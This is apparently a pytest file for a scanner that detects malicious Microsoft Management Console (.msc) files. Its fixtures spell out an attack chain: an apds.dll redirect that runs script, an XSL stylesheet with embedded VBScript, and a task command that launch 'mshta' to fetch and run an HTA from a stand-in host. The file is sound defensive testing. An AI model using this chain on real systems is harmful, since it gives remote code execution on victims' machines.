"""Consoles of the Microsoft Management Console."""

from html import escape
from urllib.parse import quote

import pytest
from linear import assert_linear

from emoscan.analyse import analyse
from emoscan.budget import Budget, Limits
from emoscan.context import Context
from emoscan.engine import expand
from emoscan.formats.mmc import open_console
from emoscan.model import Artifact
from emoscan.registry import discover

discover()

PAGE = "res://apds.dll/redirect.html?target=javascript:eval(external.Document.ScopeNamespace.GetRoot().Name)"
SHEET = (
    '<?xml version="1.0"?><stylesheet xmlns="http://www.w3.org/1999/XSL/Transform" xmlns:ms="urn:schemas-microsoft-com:xslt" version="1.0">'
    '<ms:script implements-prefix="user" language="VBScript"><![CDATA[CreateObject("WScript.Shell").Run "mshta http://files.example.test/a.hta"]]></ms:script></stylesheet>'
)
SCRIPT = (
    "var scope = external.Document.ScopeNamespace;\nvar root = scope.GetRoot();\nvar doc = external.Document.ActiveView.ControlObject;\n"
    f'doc.async = false;\ndoc.loadXML(unescape("{quote(SHEET)}"));\ndoc.transformNode(doc);'
)


def console(*strings, inside=""):
    texts = "".join(f'<String ID="{number}" Refs="1">{escape(text)}</String>' for number, text in enumerate(strings))
    return f'<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0">{inside}<StringTables><StringTable><Strings>{texts}</Strings></StringTable></StringTables></MMC_ConsoleFile>'.encode()


def runs(data):
    return [fact.value for _, fact in expand(data, "a.msc").facts(kind="effect.run")]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_script_in_a_page_of_windows(encoding):
    data = console("Favorites", PAGE, SCRIPT).decode().encode(encoding)
    assert "mshta http://files.example.test/a.hta" in runs(data)
    report = analyse(data, "a.msc")
    assert (report.verdict, "DOC.EXPLOIT" in {finding.id for finding in report.findings}) == ("malicious", True)


def test_tasks():
    task = '<Task Type="CommandLine" Command="cmd.exe"><CommandLine Directory="" Params="/c mshta http://files.example.test/a.hta &amp;amp; x"/></Task>'
    assert "cmd.exe /c mshta http://files.example.test/a.hta &amp; x" in runs(console(inside=task))


def test_a_console_of_an_administrator():
    report = analyse(console("Console Root", "Computer Management", "https://intranet.example/wiki?q=eval"), "a.msc")
    assert (report.verdict, report.score) == ("clean", 0)


def test_time_is_in_proportion():
    for unit in ("<Task ", '<Task Command="a">', '<String>unescape("%41', "<CommandLine "):
        assert_linear(
            lambda text: list(open_console(Artifact("text.xml", b"MMC_ConsoleFile" + text.encode()), Context(Budget(Limits())))),
            unit,
            200_000,
        )
